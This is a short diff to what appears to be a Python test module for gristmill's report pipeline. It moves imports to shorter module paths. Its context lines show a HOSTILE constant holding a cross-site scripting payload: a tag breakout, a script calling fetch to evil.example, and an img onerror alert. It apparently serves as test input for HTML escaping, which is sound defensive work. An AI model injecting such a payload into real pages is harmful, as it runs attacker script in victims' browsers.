@@ -19,9 +19,9 @@ from gristmill.corpus.store.errors import RequestError, WorkspaceError
 from gristmill.corpus.store.fate import inputs
 from gristmill.corpus.store.made import put_shards, put_table
 from gristmill.corpus.store.workspace import Workspace
-from gristmill.pipelines.report.page.charts import thinned, ticks
-from gristmill.pipelines.report.page.page import ReportSettings, render, write_report
-from gristmill.pipelines.report.page.text import escape, excerpt
+from gristmill.pipelines.report.charts import thinned, ticks
+from gristmill.pipelines.report.page import ReportSettings, render, write_report
+from gristmill.pipelines.report.text import escape, excerpt
 
 HOSTILE = (
     "</pre></details><script>fetch('//evil.example')</script><img src=x onerror=alert(1)>"
